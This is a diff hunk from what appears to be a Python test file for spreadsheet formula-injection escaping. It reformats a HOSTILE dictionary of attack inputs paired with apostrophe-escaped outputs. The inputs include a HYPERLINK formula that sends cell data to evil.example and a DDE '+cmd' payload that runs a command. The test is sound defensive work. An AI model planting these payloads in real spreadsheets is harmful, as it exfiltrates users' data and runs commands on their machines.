@@ -17,7 +17,7 @@ from db.workspace import Workspace
 from .conftest import STUDY_TOML
 
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
     "-2+3": "'-2+3",
     "@SUM(1+1)": "'@SUM(1+1)",
